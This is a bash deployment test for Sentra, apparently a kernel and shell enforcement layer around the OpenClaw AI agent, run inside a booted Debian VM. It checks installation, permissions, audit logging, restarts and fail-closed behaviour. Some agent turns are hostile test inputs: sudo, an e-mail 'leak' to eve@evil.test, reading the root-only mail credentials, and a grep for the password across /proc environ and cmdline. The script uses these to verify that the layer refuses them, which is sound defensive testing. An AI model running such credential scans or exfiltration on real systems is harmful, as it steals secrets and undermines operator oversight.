#!/bin/bash
# The deployment test, run by systemd inside a booted Debian 12 machine (cargo xtask vm-systemd):
# installs Sentra with scripts/install.sh (offline, from the host's build and downloads), starts the
# units, drives real OpenClaw agent turns against a fake LLM on loopback, restarts both units, and
# uninstalls. Every check prints `SYSTEMD-TEST ok - NAME` or `SYSTEMD-TEST not ok - NAME: WHY`; the
# last line is `SYSTEMD-TEST DONE pass=N fail=M`. Network: loopback only (the VM has no NIC).
set -u
export PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin
SRC=/root/sentra-src
TEST=/root/sentra-test
AUDIT=/var/log/sentra/audit.jsonl
TOKEN=tok-systemd-test-7f3a
MAIL_PASSWORD=mail-pw-systemd-test-91c2
pass=0 fail=0
ok() { pass=$((pass + 1)); echo "SYSTEMD-TEST ok - $1"; }
bad() { fail=$((fail + 1)); echo "SYSTEMD-TEST not ok - $1: $2"; }
check() { # name, command...
    local name="$1"; shift
    local out
    if out="$("$@" 2>&1)"; then ok "$name"; else bad "$name" "$(printf '%s' "$out" | tail -n 5 | tr '\n' ' ')"; fi
}
since() { date +%s; }
took() { echo "SYSTEMD-TEST time $1 $(( $(since) - $2 )) s"; }
finish() {
    echo "SYSTEMD-TEST DONE pass=$pass fail=$fail"
    systemctl poweroff --no-block
    exit 0
}
wait_for() { # seconds, command...: polls once a second
    local limit="$1"; shift
    local i
    for i in $(seq "$limit"); do "$@" >/dev/null 2>&1 && return 0; sleep 1; done
    return 1
}
gateway_up() { (exec 3<>/dev/tcp/127.0.0.1/18789) 2>/dev/null; }
# The gateway's main process: the launcher's child's child (PID namespace init, then node).
agent_pids() { systemctl show -p ControlGroup --value openclaw.service | sed 's|^|/sys/fs/cgroup|;s|$|/|' \
    | xargs -I{} sh -c 'cat {}sentra-launch-*/cgroup.procs 2>/dev/null'; }
launch_cgroup() { ls -d /sys/fs/cgroup/system.slice/openclaw.service/sentra-launch-* 2>/dev/null | head -n1; }
# One agent turn through the gateway, as OpenClaw's own CLI client does it; prints the reply JSON.
# The client's own connect deadline is short for an emulated machine: a turn whose client could not
# reach the gateway is tried again (at most three times).
turn() {
    local try out
    for try in 1 2 3; do
        out="$(HOME=/root/client OPENCLAW_GATEWAY_TOKEN=$TOKEN timeout 900 /usr/local/bin/openclaw agent \
            --agent main --message "RUN: $1" --json 2>/root/client/turn.err)"
        case "$out" in *"Gateway not reachable"*|"") echo "SYSTEMD-TEST retry: the client did not reach the gateway (try $try)" >&2 ;; *) break ;; esac
    done
    printf '%s\n' "$out"
    # What the fake LLM was sent back as the tool's result: the agent's view of the command.
    echo "SYSTEMD-TEST tool result seen by the model: $(tail -n 1 /root/llm.log | jq -r '.tool // "(none)"' | tr '\n' '|' | cut -c1-900)" >&2
}

echo "SYSTEMD-TEST kernel $(uname -r) lsm=$(cat /sys/kernel/security/lsm) systemd $(systemctl --version | head -n1)"

# --- install -----------------------------------------------------------------------------------
# The mail account points at a mail server on loopback (smtp-sink.mjs, started below), with a password
# the agent must never see.
t=$(since)
if EMAIL_ADDRESS=agent@sentra.test EMAIL_PASSWORD="$MAIL_PASSWORD" SMTP_SERVER=smtp://127.0.0.1:2525 \
    EMAIL_RECIPIENTS='*@allowed.test' bash "$SRC/scripts/install.sh" --prebuilt /root/sentra-bin \
    --downloads /root/downloads --offline --no-start > /root/install.log 2>&1; then
    ok "install.sh installs offline from the host's build"
else
    bad "install.sh installs offline from the host's build" "$(tail -n 20 /root/install.log | tr '\n' ' ')"
    cat /root/install.log
    finish
fi
took install "$t"
check "binaries installed" test -x /usr/local/bin/sentra-ctl -a -x /usr/local/bin/sentra-shell -a -x /usr/local/bin/openclaw-status
check "manual pages and completions installed" sh -c 'test -s /usr/local/share/man/man1/sentra-ctl-launch.1 && test -s /usr/local/share/man/man1/sentra.1 && bash -n /usr/local/share/bash-completion/completions/sentra-ctl && grep -q "launch" /usr/local/share/zsh/site-functions/_sentra-ctl && test -s /usr/local/share/fish/vendor_completions.d/sentra.fish'
check "the agent user has no sudo and no login shell" sh -c '! id -nG openclaw | grep -qw sudo && getent passwd openclaw | grep -q nologin'
check "credentials file is root-only" sh -c '[ "$(stat -c %a:%U /etc/sentra/openclaw.env)" = 600:root ]'
check "audit directory is root-only" sh -c '[ "$(stat -c %a /var/log/sentra)" = 700 ]'
check "the mail account is root's alone" sh -c '[ "$(stat -c %a:%U /etc/sentra/email/himalaya.toml)" = 600:root ] && [ "$(stat -c %a /etc/sentra/email)" = 700 ]'
check "the installer added an email section to the policy" sh -c 'grep -q "^email:" /etc/sentra/policy.yaml && sentra-ctl policy check /etc/sentra/policy.yaml'
check "install.sh is idempotent" bash "$SRC/scripts/install.sh" --prebuilt /root/sentra-bin --downloads /root/downloads \
    --offline --no-start
check "a second install adds no second email section" sh -c '[ "$(grep -c "^email:" /etc/sentra/policy.yaml)" = 1 ]'

# This machine is software-emulated (qemu TCG, many times slower than the hardware): OpenClaw's own
# start-up deadlines of 1 to 10 s (a worker thread's first heartbeat, a child process's start) are
# raised to 120 s here, and only here. Nothing Sentra does is changed.
find /usr/local/lib/sentra/openclaw/lib/node_modules/openclaw/dist -name '*.js' -o -name '*.mjs' | xargs sed -i -E \
    's/\b((LEASE_HEARTBEAT|DEFAULT_PROCESS|PROCESS)_START_TIMEOUT_MS|STARTUP_TIMEOUT_MS) = [0-9]+e[0-9]+/\1 = 12e4/g'

# OpenClaw's configuration: the fake provider on loopback, a local gateway with token auth.
install -d -o openclaw -g openclaw -m 0700 /var/lib/openclaw/.openclaw
install -o openclaw -g openclaw -m 0600 "$TEST/openclaw.json" /var/lib/openclaw/.openclaw/openclaw.json
printf 'OPENCLAW_GATEWAY_TOKEN=%s\n' "$TOKEN" >> /etc/sentra/openclaw.env
mkdir -p /root/client/.openclaw
cp "$TEST/openclaw.json" /root/client/.openclaw/openclaw.json
/usr/local/lib/sentra/node/bin/node "$TEST/fake-llm.mjs" 18111 /root/llm.log > /root/llm.out 2>&1 &
/usr/local/lib/sentra/node/bin/node "$TEST/smtp-sink.mjs" 2525 /root/smtp.log > /root/smtp.out 2>&1 &

# --- start -------------------------------------------------------------------------------------
t=$(since)
check "openclaw-start starts both units" /usr/local/bin/openclaw-start
took start "$t"
check "sentra.service is active (Type=notify: ready only when enforcing)" systemctl is-active sentra.service
if sentra-ctl status --json | jq -e '.backend == "lsm"' >/dev/null; then ok "the controller enforces with the lsm backend"; else
    bad "the controller enforces with the lsm backend" "$(sentra-ctl status --json | jq -c '{backend, lsm_refusal}'; journalctl -u sentra --no-pager | grep -i -E 'backend|lsm' | tr '\n' '|')"; fi
check "openclaw.service is active" systemctl is-active openclaw.service
t=$(since)
if wait_for 900 gateway_up; then ok "the governed gateway listens on 127.0.0.1:18789"; else
    bad "the governed gateway listens on 127.0.0.1:18789" "$(journalctl -u openclaw -n 40 --no-pager | tr '\n' ' ')"; fi
took gateway "$t"
cg="$(launch_cgroup)"
check "the agent runs in a delegated launch cgroup inside its unit" test -n "$cg"
check "the controller governs that cgroup" sh -c "sentra-ctl status --json | jq -e '.delegated_cgroups[].path == \"$cg\"'"
# The gateway: the node process in the launch cgroup (beside the PID namespace's init).
pid="$(for p in $(cat "$cg/cgroup.procs" 2>/dev/null); do
    case "$(readlink "/proc/$p/exe")" in */node) echo "$p"; break ;; esac; done)"
check "the agent runs as openclaw with no_new_privs and a seccomp filter" sh -c \
    "grep -q '^Uid:.*$(id -u openclaw)' /proc/$pid/status && grep -q '^NoNewPrivs:.1' /proc/$pid/status && grep -q '^Seccomp:.2' /proc/$pid/status"
check "openclaw-status reports the units, backend and cgroup" sh -c 'openclaw-status | grep -q "backend *lsm" && openclaw-status | grep -q sentra-launch-'

# --- agent turns -------------------------------------------------------------------------------
# Each reply is kept in a file; the transcript lines show what the agent was told.
transcript() { echo "SYSTEMD-TEST transcript $1: $(jq -c '[.. | .text? | strings] | unique' "$2" 2>/dev/null | cut -c1-1500 || tr -d '\n' < "$2" | tail -c 700)"; }
t=$(since)
# One turn for what the agent may do and what only the kernel refuses: its own identity and output; a
# program the shell layer cannot see coming (node starts it), which only the kernel refuses and which
# sentra-shell then reports after asking the controller; and a name the network policy refuses.
turn "id -un; echo allowed-output-\$((6*7)); node -e \"try { require('child_process').execFileSync('/usr/sbin/nologin') } catch (e) { console.log('exec-' + e.code) }\"; getent hosts refused-name.example; echo dns-rc=\$?" > /root/reply.turn
took turn "$t"
transcript allowed-and-kernel-denied /root/reply.turn
check "an allowed command's output reaches the reply" grep -q 'allowed-output-42' /root/reply.turn
check "the command ran as the openclaw user" grep -q 'RESULT: openclaw' /root/reply.turn
check "the command is audited by the shell layer" grep -q 'allowed-output' "$AUDIT"
check "a kernel denial reaches the agent with file, rule and reason" sh -c \
    'grep -q "exec-EPERM" /root/reply.turn && grep -q "DENIED (kernel): /usr/sbin/nologin" /root/reply.turn && grep -q "Rule: default" /root/reply.turn'
check "the kernel denial is audited" sh -c "grep '\"layer\":\"kernel\"' $AUDIT | grep '\"decision\":\"denied\"' | grep -q '/usr/sbin/nologin'"
check "a refused DNS name fails for the agent" grep -q 'dns-rc=[1-9]' /root/reply.turn
check "the refused DNS name is audited" grep -q 'refused-name.example' "$AUDIT"

turn 'sudo id' > /root/reply.shell
transcript shell-denied /root/reply.shell
check "a shell-layer denial reaches the agent with rule and reason" sh -c 'grep -q "DENIED" /root/reply.shell && grep -qi "rule" /root/reply.shell'
check "the shell-layer denial is audited" sh -c "grep '\"decision\":\"denied\"' $AUDIT | grep -q 'sudo'"

# E-mail through the controller's broker: an allowed recipient is sent (with the account's password,
# which the agent then tries to read: the file, and every process's environment and command line it can
# see; the pattern's brackets keep grep from finding itself), a recipient outside the policy is refused
# with rule and reason.
turn "email bob@allowed.test 'Hello from the agent' \"mail-body-\$((6*7))\"; echo mail-rc=\$?; send-email eve@evil.test 'Leak' 'secrets'; echo leak-rc=\$?; cat /etc/sentra/email/himalaya.toml; echo cat-rc=\$?; grep -l 'mail-pw-[s]ystemd' /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null; echo scan-done" > /root/reply.email
transcript email /root/reply.email
check "an allowed e-mail is sent and the agent is told" sh -c 'grep -q "Email sent to bob@allowed.test" /root/reply.email && grep -q "mail-rc=0" /root/reply.email'
check "the mail server got it from the policy's sender, authenticated by the broker" sh -c \
    "jq -e 'select(.to == [\"bob@allowed.test\"] and .from == \"agent@sentra.test\" and .auth.password == \"$MAIL_PASSWORD\" and (.data | contains(\"mail-body-42\")))' /root/smtp.log"
check "a refused recipient reaches the agent with rule and reason" sh -c \
    'grep -q "DENIED: email to eve@evil.test" /root/reply.email && grep -q "Rule: email.recipients" /root/reply.email && grep -q "leak-rc=1" /root/reply.email'
check "nothing was sent to the refused recipient" sh -c '! grep -q eve@evil.test /root/smtp.log'
check "the agent cannot read the mail credentials" sh -c \
    "grep -q 'scan-done' /root/reply.email && ! grep -q '$MAIL_PASSWORD' /root/reply.email && ! grep -q 'cat-rc=0' /root/reply.email"
check "both e-mails are audited" sh -c \
    "grep '\"event\":\"email\"' $AUDIT | grep -q '\"decision\":\"allowed\"' && grep '\"event\":\"email\"' $AUDIT | grep '\"decision\":\"denied\"' | grep -q eve@evil.test"
echo "SYSTEMD-TEST audit email: $(grep '"event":"email"' $AUDIT | tr '\n' ' ' | cut -c1-1500)"

# --- restarts ----------------------------------------------------------------------------------
# A root process in the agent's cgroup keeps trying a denied exec while the controller restarts:
# every attempt must be refused (the pins enforce while no controller runs).
# Decided means refused (126: the lsm backend's EPERM) or killed (137: the signal backend); nologin
# running would exit 1. The shell's own "Killed" notices go to stderr, the counts to the file.
cat > /root/probe.sh <<'EOF'
echo $$ > "$1/cgroup.procs"
end=$(( $(date +%s) + $2 ))
n=0 ran=0
while [ "$(date +%s)" -lt "$end" ]; do
    /usr/sbin/nologin >/dev/null 2>&1
    case $? in 126|137) ;; *) ran=$((ran + 1)) ;; esac
    n=$((n + 1))
done
echo "$n $ran" > "$3"
EOF
cg="$(launch_cgroup)"
bash /root/probe.sh "$cg" 60 /root/probe.out 2>/dev/null &
probe=$!
sleep 5
t=$(since)
check "systemctl restart sentra" systemctl restart sentra.service
took restart-sentra "$t"
wait "$probe"
read -r tries ran < /root/probe.out
echo "SYSTEMD-TEST probe: $tries denied-exec attempts during the restart, $ran not refused"
check "enforcement is continuous across systemctl restart sentra" sh -c "[ '${tries:-0}' -gt 0 ] && [ '${ran:-1}' = 0 ]"
check "the restarted controller adopted the pins" sh -c 'sentra-ctl status --json | jq -e ".adoptions >= 1"'

old_cg="$(launch_cgroup)"
t=$(since)
check "systemctl restart openclaw" systemctl restart openclaw.service
wait_for 300 sh -c "launch_cgroup() { ls -d /sys/fs/cgroup/system.slice/openclaw.service/sentra-launch-* 2>/dev/null | head -n1; }; [ -n \"\$(launch_cgroup)\" ] && [ \"\$(launch_cgroup)\" != '$old_cg' ]"
took restart-openclaw "$t"
new_cg="$(launch_cgroup)"
check "the restarted agent is in a new governed launch cgroup" sh -c \
    "[ -n '$new_cg' ] && [ '$new_cg' != '$old_cg' ] && sentra-ctl status --json | jq -e '.delegated_cgroups | map(.path) | index(\"$new_cg\") != null'"
check "the old launch cgroup was released" sh -c "grep '\"launch_released\"' $AUDIT | grep -q '$old_cg'"

# --- fail closed -------------------------------------------------------------------------------
# SIGTERM ends the controller, not enforcement. Its unit is moved aside so that openclaw's Wants= cannot
# pull it in again (a runtime mask would not do: the installed unit in /etc outranks /run).
systemctl stop openclaw.service sentra.service
mv /etc/systemd/system/sentra.service /root/sentra.service.aside
systemctl daemon-reload
check "no controller runs" sh -c '! pgrep -x sentra-ctl >/dev/null || ! pgrep -a sentra-ctl | grep -q " daemon"'
t0=$(since)
systemctl start openclaw.service >/dev/null 2>&1
# The launcher refuses within seconds; systemd then retries every 5 s (Restart=on-failure).
wait_for 120 sh -c "journalctl -u openclaw --since @$t0 --no-pager | grep -q 'did not govern'"
if ! ls -d /sys/fs/cgroup/system.slice/openclaw.service/sentra-launch-* 2>/dev/null | grep -q . \
    && journalctl -u openclaw --since "@$t0" --no-pager | grep -q 'did not govern'; then
    ok "openclaw does not start its agent without a controller"
else
    bad "openclaw does not start its agent without a controller" "$(journalctl -u openclaw --since "@$t0" --no-pager | tail -n 25 | tr '\n' '|')"
fi
systemctl stop openclaw.service
mv /root/sentra.service.aside /etc/systemd/system/sentra.service
systemctl daemon-reload

# --- uninstall ---------------------------------------------------------------------------------
systemctl start sentra.service
check "install.sh --uninstall" bash "$SRC/scripts/install.sh" --uninstall
check "no unit, binary or pin is left" sh -c '! ls /etc/systemd/system/sentra.service /etc/systemd/system/openclaw.service /usr/local/bin/sentra-ctl /usr/local/bin/sentra-shell /usr/local/bin/sentra-email /usr/local/bin/email /usr/local/bin/himalaya /sys/fs/bpf/sentra /usr/local/share/man/man1/sentra-ctl.1 /usr/local/share/man/man1/sentra.1 /usr/local/share/bash-completion/completions/sentra-ctl 2>/dev/null | grep -q .'
check "the audit log is kept" test -s "$AUDIT"
finish
